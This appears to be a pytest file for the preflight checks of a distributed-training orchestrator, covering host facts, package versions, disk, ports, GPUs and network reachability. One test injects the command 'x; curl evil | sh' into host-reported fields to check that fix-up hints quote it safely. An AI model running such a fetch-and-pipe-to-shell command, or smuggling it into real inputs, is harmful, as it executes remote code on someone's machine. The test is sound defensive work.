"""Judgements of preflight: a row of facts, and what is said of it."""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from orchestrator import checks, wire
from orchestrator.checks import Evidence, HostReport, Needs
from orchestrator.events import CheckReported, Level, PairReported
from orchestrator.model import EnvironmentPlan, FrameworkName, Host, Role

NEEDS = Needs(needed=True, legacy_keras=True)


def report(name: str = "gpu-01", **changes: Any) -> HostReport:
    """A host on which all is well; `changes` replace parts of its answers, by dotted-like names a__b."""
    number = int(name[-2:])
    host = Host(name, name, f"10.0.0.{number}", task_port=2222)
    hello = {
        "protocol": 1,
        "time_ns": 0,
        "state_error": None,
        "user": "train",
        "python": "3.11.2",
        "boot_id": name,
        "netns": "net:[1]",
        "state": "/var/tmp/o-1",
    }
    disk = {"free": 120 * 10**9}
    facts = {
        "python": {"path": "/venv/bin/python", "version": "3.11.2", "ok": True, "error": ""},
        "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
        "r": None,
        "setup": "",
        "disk": {"state": disk, "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""}},
        "gpus": [],
        "addresses": [{"name": "lo", "ip": "127.0.0.1"}, {"name": "eth0", "ip": f"10.0.0.{number}"}],
        "answers": {"rsync": "/usr/bin/rsync", "port": "32768\t60999\n", "linger": "b false"},
    }
    listen: dict[str, Any] = {"listening": [2222], "busy": []}
    made = HostReport(
        host,
        (2222,),
        wire.read(hello, wire.Hello, "hello"),
        wire.read(facts, wire.MachineFacts, "facts"),
        wire.read(listen, wire.Listening, "listen"),
    )
    return changed(made, **changes)


def changed(made: HostReport, **changes: Any) -> HostReport:
    """`facts__disk__state=None` replaces its facts["disk"]["state"]; `host__devices=...` a field."""
    for path, value in changes.items():
        first, *keys = path.split("__")
        part = getattr(made, first)
        if first == "host":
            part = replace(part, **{keys[0]: value})
        else:
            known = msgspec.to_builtins(part)
            part = wire.read(_with(known, keys, value) if keys else value, type(part), path)
        made = replace(made, **{first: part})
    return made


def _with(part: Any, keys: list[str], value: Any) -> Any:
    return {**part, keys[0]: _with(part[keys[0]], keys[1:], value) if keys[1:] else value}


def examined(*hosts: HostReport, needs: Needs = NEEDS, **more: Any) -> list[CheckReported]:
    return checks.examined(Evidence(hosts, needs, **more))


def of_level(results: Sequence[CheckReported], *levels: Level) -> list[tuple[str, str, str]]:
    return [(each.host, each.check, each.found) for each in results if each.level in levels]


def named(results: Sequence[CheckReported], check: str) -> list[CheckReported]:
    return [each for each in results if each.check == check]


def test_a_good_host_is_well_in_every_way() -> None:
    results = examined(report())
    assert [(each.check, each.found) for each in results] == [
        ("login", "train"),
        ("agent", "3.11.2"),
        ("python", "3.11.2"),
        ("tensorflow", "2.21.0"),
        ("tf_keras", "2.21.0"),
        ("rsync", "ok"),
        ("state", "ok"),
        ("workdir", "ok"),
        ("disk", "120 GB free"),
        ("clock", "+0 ms"),
        ("port", "2222"),
    ]
    assert {each.level for each in results} == {Level.OK}


W, F = Level.WARN, Level.FAIL
GPUS = [{"index": i, "name": "A100", "memory": 80 << 30} for i in range(2)]
STATE_ERROR = {"kind": "state", "what": "the state folder is on NFS", "why": "no locks", "hint": ""}
LEASE = {"run": "tidy-otter", "task": "worker/0", "owner": "ann@laptop", "since": 1.0}
SMALL = {"free": 4 * 10**9}

# (what the host says; the check, its level and what was found; a part of why, a part of the hint)
ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
    ({"hello__python": "3.7.3"}, ("agent", F, "Python 3.7.3"), "3.8 or newer", "agent_python"),
    (
        {"facts__python": {"path": None, "version": None, "ok": False, "error": "/x/python: No such file"}},
        ("python", F, "python3 does not run"),
        "No such file",
        "`python`",
    ),
    (
        {"facts__packages": {}},
        ("tensorflow", F, "not installed"),
        "/venv/bin/python does not have it",
        "`/venv/bin/python -m pip install tensorflow`; or set `python`",
    ),
    (
        {"facts__packages": {}, "facts__python__managed": True},
        ("tensorflow", F, "not installed"),
        "/venv/bin/python does not have it",
        "add a table [env] to hosts.toml, then `orchestrate setup`",
    ),
    (
        {"facts__packages": {}, "facts__setup": "module: command not found"},
        ("tensorflow", F, "not installed"),
        "the `setup` of [job] printed: module: command not found",
        "-m pip install tensorflow",
    ),
    (
        {"facts__packages__tf-keras": None},
        ("tf_keras", F, "not installed"),
        "Keras 2",
        "--no-deps 'tf_keras==2.21.*'",
    ),
    ({"facts__answers__rsync": ""}, ("rsync", Level.NOTE, "none"), "is sent whole", "apt install rsync"),
    (
        {
            "facts__gpus": [{"index": i, "name": "A100"} for i in range(2)],
            "facts__answers": {
                "rsync": "x",
                "shm": "Filesystem 1024-blocks Used Available Capacity Mounted\nshm 65536 0 65536 0% /shm",
            },
        },
        ("shm", F, "67 MB in /dev/shm"),
        "NCCL",
        "--shm-size",
    ),
    (
        {"hello__state_error": STATE_ERROR},
        ("state", F, "cannot be used"),
        "the host says: the state folder is on NFS\nno locks",
        "`state`",
    ),
    (
        {"facts__disk__workdir__writable": False, "facts__disk__workdir__error": "Read-only file system"},
        ("workdir", F, "/home/t/o cannot be written"),
        "Read-only file system",
        "`workdir`",
    ),
    (
        {"facts__disk__workdir__free": 4_900_000_000},
        ("disk", W, "4.9 GB free"),
        "/home/t/o needs room",
        "`workdir`",
    ),
    ({"facts__disk__workdir__free": 199_000_000}, ("disk", F, "199 MB free"), "checkpoints", "`workdir`"),
    (
        {"facts__disk__state": SMALL},
        ("disk", W, "4.0 GB free"),
        "/var/tmp/o-1 needs room for the tasks' logs",
        "`state`",
    ),
    ({"clock": 1.4}, ("clock", W, "1.4 s ahead"), "", "set-ntp"),
    (
        {"listen__busy": [{"port": 2222, "holder": "python3 pid 4242 (user bob)"}]},
        ("port", F, "2222 taken"),
        "2222: python3 pid 4242 (user bob)",
        "`task_port`",
    ),
    (
        {"listen__busy": [{"port": 2222, "holder": LEASE}]},
        ("port", F, "2222 taken"),
        "2222: run tidy-otter (ann@laptop)",
        "`task_port`",
    ),
    ({"ports": (40000,)}, ("port", W, "40000"), "32768 to 60999", "ip_local_reserved_ports=40000"),
    (
        {"facts__answers__linger": "b true\n"},
        ("linger", W, "off"),
        "KillUserProcesses",
        "loginctl enable-linger train",
    ),
    ({"host__devices": ("0",)}, ("gpu", F, "none seen"), "nvidia-smi", "`devices`"),
    (
        {"host__devices": ("0", "3", "GPU-ab"), "facts__gpus": GPUS},
        ("gpu", F, "no GPU 3"),
        "has 0, 1",
        "`devices`",
    ),
    (
        {"host__address": "203.0.114.7"},
        ("exposure", W, "203.0.114.7 is a public address"),
        "no authentication",
        "firewall",
    ),
]


@pytest.mark.parametrize(("changes", "expected", "why", "hint"), ALONE)
def test_what_is_wrong_with_a_host_is_told(
    changes: dict[str, Any], expected: tuple[str, Level, str], why: str, hint: str
) -> None:
    bad = [one for one in examined(report(**changes)) if one.level is not Level.OK]
    assert [(one.check, one.level, one.found) for one in bad] == [expected]
    assert why in bad[0].why
    assert hint in bad[0].hint


FINE: list[dict[str, Any]] = [
    {"facts__packages": {"tensorflow-cpu": "2.21.0", "tf-keras": "2.21.3"}},
    {"facts__packages": {"tensorflow": "2.15.1", "keras": "2.15.0"}},  # Keras 2 inside
    {"facts__packages": {"tensorflow": "2.9.0"}},
    {"hello__python": "3.8.18"},
    {"facts__disk__state": None, "clock": -0.9},
    {"host__devices": ("0", "1"), "facts__gpus": GPUS},
    {
        "facts__addresses": [
            {"name": "", "ip": ip} for ip in ("127.0.0.1", "172.17.0.4", "2a02::1", "fe80::1%e")
        ]
    },
    {"host__address": "node-1.example.org"},
    {"facts__answers": {"rsync": "x", "linger": "", "shm": "df: no such", "port": "?"}},
]


@pytest.mark.parametrize("changes", FINE)
def test_nothing_is_said_of_what_is_well(changes: dict[str, Any]) -> None:
    assert {one.level for one in examined(report(**changes))} == {Level.OK}


def test_a_job_that_is_no_python_needs_no_tensorflow() -> None:
    checks = examined(report(facts__packages={}), needs=Needs(needed=False, legacy_keras=False))
    assert of_level(checks, W) == [("gpu-01", "tensorflow", "not installed")]
    assert not of_level(checks, F)


DEAD = {"path": None, "version": None, "ok": False, "error": "No such file or directory"}
MADE = EnvironmentPlan("6bce2a2ce683ac26")


def made(name: str = "gpu-01", **changes: Any) -> HostReport:
    """A host that trains in the environment of [env]."""
    python = f"envs/{MADE.name}/bin/python"
    known = {"host__python": f"{Host.workdir}/{python}", "facts__python__path": f"/home/t/o/{python}"}
    return report(name, **known, **changes)


@pytest.mark.parametrize(
    ("changes", "check", "hint"),
    [
        ({"facts__python": DEAD, "facts__packages": {}}, "python", "`orchestrate setup`"),
        ({"facts__python__version": "3.12.1"}, "python", 'set `python = "3.11"` under [env], then'),
        ({"facts__packages": {}}, "tensorflow", "add tensorflow to the `packages` of [env], then"),
    ],
)
def test_what_env_makes_is_mended_by_setup(changes: dict[str, Any], check: str, hint: str) -> None:
    needs = Needs(needed=True, legacy_keras=False, environment=MADE)
    results = examined(made("gpu-01"), made("gpu-02", **changes), made("gpu-03"), needs=needs)
    (found,) = (each for each in results if each.level in (W, F))
    assert (found.host, found.check) == ("gpu-02", check)
    assert hint in found.hint


def failing(module: dict[str, str]) -> wire.Imported:
    """The imports of a process that ended at this module."""
    rest: dict[str, Any] = {"gpus": None, "built": "", "importing": "", "ended": "", "signal": None}
    return wire.read({"modules": [module], **rest}, wire.Imported, "imports")


@pytest.mark.parametrize(
    ("module", "error", "there", "hint"),
    [
        ("numpy", "No module named 'numpy'", None, "add numpy to the `packages` of [env]"),
        (
            "tensorflow_datasets",
            "No module named 'importlib_resources'",
            None,
            "add importlib_resources to the",
        ),
        ("google.protobuf", "No module named 'google'", None, "add protobuf to the `packages` of [env]"),
        (
            "numpy",
            "No module named 'numpy'",
            "2.4.6",
            f"remove ~/orchestrate/envs/{MADE.name} there",
        ),
        (
            "numpy",
            "No module named 'numpy._core'",
            "2.4.6",
            f"remove ~/orchestrate/envs/{MADE.name} there",
        ),
    ],
)
def test_what_env_does_not_name_is_added_there_and_what_is_damaged_is_made_anew(
    module: str, error: str, there: str | None, hint: str
) -> None:
    """An environment that lacks a package is what [env] says: made anew it would lack it again."""
    needs = Needs(needed=True, legacy_keras=False, environment=MADE)
    broken = {"name": module, "version": "", "error": f"ModuleNotFoundError: {error}"}
    host = replace(made(facts__packages__numpy=there), imported=failing(broken))
    (check,) = (found for found in examined(host, needs=needs) if found.check == "import")
    assert hint in check.hint


VERSIONS: list[tuple[dict[str, Any], Level, str, str]] = [
    (
        {"facts__packages__tensorflow": "2.20.0", "facts__packages__tf-keras": "2.20.0"},
        F,
        "tensorflow",
        "2.20.0",
    ),
    ({"facts__packages__tensorflow": "2.21.1"}, W, "tensorflow", "2.21.1"),
    ({"facts__python__version": "3.10.4"}, W, "python", "3.10.4"),
    ({"facts__packages__numpy": "1.26.4"}, W, "numpy", "1.26.4"),
]


@pytest.mark.parametrize(("changes", "level", "check", "found"), VERSIONS)
def test_the_odd_ones_are_named(changes: dict[str, Any], level: Level, check: str, found: str) -> None:
    cluster = [report("gpu-01"), report("gpu-02", **changes), report("gpu-03")]
    checks = examined(*cluster)
    assert ("gpu-02", check, found) in of_level(checks, level)
    assert {host for host, _, _ in of_level(checks, W) + of_level(checks, F)} == {"gpu-02"}
    odd = next(one for one in checks if one.host == "gpu-02" and one.check == check and one.level is level)
    assert "gpu-[01,03]" in odd.why


def test_one_machine_under_two_names_needs_two_ports() -> None:
    first, twin = report("gpu-01"), report("gpu-02", hello__boot_id="gpu-01")
    assert of_level(examined(first, twin), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
    apart = examined(first, changed(twin, ports=(2223,)))
    assert ("gpu-02", "machine", "same as gpu-01") in of_level(apart, Level.OK)
    contained = changed(twin, hello__netns="net:[2]")
    assert not [one for one in examined(first, contained) if one.check == "machine"]


def test_one_machine_under_two_names_needs_two_state_folders() -> None:
    first = report("gpu-01", hello__state_place="1:2")
    twin = report("gpu-02", hello__boot_id="gpu-01", hello__state_place="1:2", ports=(2223,))
    (failed,) = [one for one in examined(first, twin) if one.level is F]
    assert (failed.host, failed.check, failed.found) == ("gpu-02", "state", "is that of gpu-01 too")
    assert failed.hint == 'write state = "/var/tmp/orchestrate-gpu-02" for it in hosts.toml'
    unknown = [changed(one, hello__boot_id="") for one in (first, twin)]
    assert ("gpu-02", "state", "is that of gpu-01 too") not in of_level(examined(*unknown), F)
    for apart in ({"hello__state_place": "1:3"}, {"hello__boot_id": "gpu-02"}, {"hello__state_place": ""}):
        assert not of_level(examined(first, changed(twin, **apart)), F)


def test_unequal_gpus_are_said_of_the_odd_one() -> None:
    cluster = [report(name, facts__gpus=GPUS) for name in ("gpu-01", "gpu-02")]
    cluster += [report("gpu-03", facts__gpus=GPUS[:1]), report("cpu-04", host__role=Role.PS)]
    assert of_level(examined(*cluster), W) == [("gpu-03", "devices", "1 GPU per task")]
    halves = changed(cluster[0], host__tasks=2)
    assert of_level(examined(halves, cluster[2]), W) == []


def test_a_shared_home_is_a_note() -> None:
    cluster = [report("gpu-01"), report("gpu-02"), report("gpu-03")]
    checks = examined(*cluster, shared=(("gpu-01", "gpu-02"), ("gpu-03",)))
    assert [(one.host, one.found) for one in checks if one.check == "shared"] == [
        ("gpu-01", "workdir of gpu-[01-02]"),
        ("gpu-02", "workdir of gpu-[01-02]"),
    ]


def mesh(*hosts: str, ping: bool | None = True, **bad: str) -> list[PairReported]:
    """All pairs, well but for `a_b="timed out"`: a does not reach b; `a_ALL`, `ALL_b` likewise."""
    pairs = []
    for source in hosts:
        for target in hosts:
            apart = source != target
            why = bad.get(f"{source}_{target}") or (
                apart and (bad.get(f"{source}_ALL") or bad.get(f"ALL_{target}"))
            )
            address = f"10.0.0.{ord(target) - 96}:2222"
            ms = None if why else 0.3
            pairs.append(PairReported(source, target, address, not why, ms, ping if why else None, why or ""))
    return pairs


def of_pairs(pairs: list[PairReported]) -> list[CheckReported]:
    return checks.examined(Evidence([], NEEDS, pairs=pairs))


T = "timed out"
REACH: list[tuple[list[PairReported], list[tuple[str, str]], str, str]] = [
    ([], [], "", ""),
    (mesh("a", "b", "c"), [], "", ""),
    (
        mesh("a", "b", "c", a_b=T),
        [("b", "a cannot reach its task port 2222: timed out")],
        "a firewall",
        "ufw allow",
    ),
    (
        mesh("a", "b", "c", ALL_b="refused"),
        [("b", "no other host reaches its task port 2222: refused")],
        "our agent listens",
        "`address`",
    ),
    (
        mesh("a", "b", "c", "d", c_ALL="no route"),
        [("c", "reaches no other host: no route")],
        "stops outgoing connections",
        "outgoing",
    ),
    (
        mesh("a", "b", "c", "d", ALL_d=T, d_ALL=T, ping=False),
        [("d", "nothing passes to it nor from it: timed out")],
        "nor to a ping",
        "cable",
    ),
    (
        mesh("a", "b", "c", a_ALL=T, b_ALL=T, c_ALL=T),
        [(name, "no task port is reached from it, nor its own: timed out") for name in "abc"],
        "pings get there",
        "ufw allow",
    ),
    (
        mesh("a", "b", "c", b_b=T),
        [("b", "cannot reach its own address 10.0.0.2:2222: timed out")],
        "NAT",
        "itself included",
    ),
    (
        mesh("a", "b", "c", a_c="does not resolve", b_c="does not resolve"),
        [("c", "no other host reaches its task port 2222: does not resolve")],
        "that name is not known",
        "/etc/hosts",
    ),
    (
        mesh("a", "b", "c", "d", a_b="answered by something else", c_b=T),
        [
            ("b", "a cannot reach its task port 2222: answered by something else"),
            ("b", "c cannot reach its task port 2222: timed out"),
        ],
        "another program",
        "`address`",
    ),
]


@pytest.mark.parametrize(("pairs", "failures", "why", "hint"), REACH)
def test_pairs_are_concluded_to_the_host_to_mend(
    pairs: list[PairReported], failures: list[tuple[str, str]], why: str, hint: str
) -> None:
    results = of_pairs(pairs)
    failed = [each for each in results if each.level is Level.FAIL]
    assert sorted((each.host, each.found) for each in failed) == sorted(failures)
    assert {each.check for each in results} <= {"reach"}
    if failed:
        assert why in failed[0].why
        assert hint in failed[0].hint
    well = {each.host for each in results if each.level is Level.OK}
    assert well == {pair.target for pair in pairs} - {host for host, _ in failures}


def test_large_packets_give_a_figure_where_they_pass() -> None:
    def packets(*lost: str) -> list[tuple[str, str]]:
        pairs = [
            msgspec.structs.replace(
                pair, large=pair.source + pair.target not in lost, large_ms=0.8, packet=9000
            )
            for pair in mesh("a", "b", "c")
        ]
        return sorted((each.host, each.found) for each in named(of_pairs(pairs), "packets"))

    good = "64 kB in 0.8 ms"
    assert packets() == [("a", good), ("b", good), ("c", good)]
    assert ("b", "large packets to it vanish") in packets("ba", "bc")
    assert ("b", "large packets from it vanish") in packets("ab", "cb")
    assert ("b", "large packets to and from it vanish") in packets("ab", "cb", "ba", "bc")
    assert ("b", "large packets from a vanish") in packets("ba")


def test_closed_ports_beside_the_task_port_are_an_error_of_nccl() -> None:
    (failure,) = checks.examined(Evidence([], NEEDS, extra=mesh("a", "b", a_b=T)))
    assert (failure.host, failure.check, failure.found) == (
        "b",
        "nccl",
        "a cannot reach its other ports: timed out",
    )


def test_a_gpu_host_with_several_networks_is_told_which_to_name() -> None:
    own = [{"name": "eth0", "ip": "10.0.0.1"}, {"name": "docker0", "ip": "172.17.0.1"}]
    single = report("gpu-01", facts__gpus=GPUS[:1], facts__addresses=own)
    several = changed(single, facts__addresses=[*own, {"name": "ib0", "ip": "10.1.0.1"}])
    told = changed(several, host__env={"NCCL_SOCKET_IFNAME": "ib0"})
    hints = [
        [each.hint for each in named(examined(host, report("gpu-02")), "interface")]
        for host in (single, several, told)
    ]
    assert hints == [[], ['set `env = { NCCL_SOCKET_IFNAME = "eth0" }` for it in hosts.toml'], []]


@pytest.mark.parametrize(
    ("imported", "check", "text"),
    [
        ({"gpus": 0}, "gpu", "TensorFlow sees 0 of 2"),
        (
            {"modules": [], "importing": "tensorflow", "ended": "killed by SIGILL", "signal": 4},
            "import",
            "Python ended importing tensorflow",
        ),
    ],
)
def test_an_import_that_shows_what_files_do_not(imported: dict[str, Any], check: str, text: str) -> None:
    well = {
        "modules": [{"name": "tensorflow", "version": "2.21.0", "error": ""}],
        "gpus": None,
        "built": "",
        "importing": "",
    }
    answer = wire.read({**well, "ended": "", "signal": None, **imported}, wire.Imported, "imports")
    host = replace(report(facts__gpus=GPUS, host__devices=("0", "1")), imported=answer)
    assert of_level(examined(host), F) == [("gpu-01", check, text)]


R = replace(NEEDS, r=True)
DEBIAN = {"version": "4.2.2", "reticulate": "1.28", "jsonlite": "1.8.4", "error": ""}


@pytest.mark.parametrize(
    ("r", "numpy", "level", "text"),
    [
        (DEBIAN, "1.26.4", Level.OK, "4.2.2, reticulate 1.28, jsonlite 1.8.4"),
        (DEBIAN, "2.0.0rc1", W, "reticulate 1.28 beside numpy 2.0.0rc1"),
        ({**DEBIAN, "jsonlite": None}, "1.26.4", W, "4.2.2, reticulate 1.28, without jsonlite"),
        ({**DEBIAN, "reticulate": None}, "1.26.4", F, "4.2.2 without reticulate"),
        ({**DEBIAN, "version": None, "error": "No such file"}, "1.26.4", F, "Rscript does not run"),
    ],
)
def test_r_and_the_numpy_it_can_talk_to(r: dict[str, Any], numpy: str, level: Level, text: str) -> None:
    results = named(examined(report(facts__r=r, facts__packages__numpy=numpy), needs=R), "r")
    assert [(each.level, each.found) for each in results] == [(level, text)]


def test_a_name_that_means_the_loopback_is_wrong_and_nothing_else_is_told() -> None:
    hosts = [report("gpu-01", host__address="four.test"), report("gpu-02")]
    pairs = [
        PairReported("gpu-01", "gpu-01", "four.test:2222", True, 0.1, None, "", "127.0.1.1"),
        PairReported("gpu-02", "gpu-01", "four.test:2222", False, None, None, T, "10.0.0.1"),
    ]
    assert of_level(examined(*hosts, pairs=pairs), F) == [
        ("gpu-01", "address", "four.test means 127.0.1.1 on gpu-01")
    ]


EVIL = "x; curl evil | sh"
MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]


@pytest.mark.parametrize(
    "changes",
    [
        {"facts__python__path": EVIL, "facts__packages": {}},
        {"hello__user": EVIL, "facts__answers__linger": "b true"},
        {"hello__state_error": {"what": "x", "hint": EVIL}},
        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": EVIL}]},
        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
        {"host__address": "10.0.0.9", "facts__addresses": [{"name": EVIL, "ip": "10.0.0.7"}]},
        {"host__address": "localhost", "facts__addresses": [{"name": EVIL, "ip": f"8.8.8.8%{EVIL}"}]},
        {"facts__gpus": GPUS, "facts__addresses": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
    ],
)
def test_what_a_host_says_never_stands_bare_in_what_we_advise(changes: dict[str, Any]) -> None:
    """Whoever copies the line after `try:` runs it on a machine of theirs."""
    two = [report("gpu-01", **changes), report("gpu-02")]
    address = two[0].host.address
    pairs = [
        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, "refused", address),
        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, None, "", "10.0.0.2", large=False),
    ]
    results = examined(*two, pairs=pairs)
    assert of_level(results, W, F)
    hints = [each.hint for each in results if "evil" in each.hint]
    assert all("curl" not in re.sub(r"'[^']*'", "", hint) for hint in hints), hints


@pytest.mark.parametrize(
    ("packages", "level", "found"),
    [
        ({"torch": "2.9.1+cu128"}, Level.OK, "2.9.1+cu128"),
        ({}, Level.FAIL, "not installed"),
    ],
)
def test_a_job_of_torch_needs_torch_and_no_tensorflow(
    packages: dict[str, str], level: Level, found: str
) -> None:
    needs = Needs(needed=True, legacy_keras=False, framework=FrameworkName.TORCH)
    results = examined(report(facts__packages=packages), needs=needs)
    assert [(each.level, each.found) for each in named(results, "torch")] == [(level, found)]
    assert not named(results, "tensorflow")


def test_what_torch_is_built_with_is_compared() -> None:
    needs = Needs(needed=True, legacy_keras=False, framework=FrameworkName.TORCH)
    answer = {"modules": [], "gpus": 1, "importing": "", "ended": "", "signal": None}
    hosts = [
        replace(
            report(host__name=name, facts__packages={"torch": version}),
            imported=wire.read({**answer, "built": built}, wire.Imported, "imports"),
        )
        for name, version, built in (
            ("a", "2.9.1", "CUDA 12.8, NCCL 2.27.5, gloo"),
            ("b", "2.9.1", "CUDA 12.8, NCCL 2.27.5, gloo"),
            ("c", "2.8.0", "CUDA 12.6, NCCL 2.26.2, gloo"),
        )
    ]
    results = examined(*hosts, needs=needs)
    assert of_level(named(results, "backend"), Level.WARN) == [
        ("c", "backend", "CUDA 12.6, NCCL 2.26.2, gloo")
    ]
    assert ("c", "torch", "2.8.0") in of_level(results, Level.FAIL)
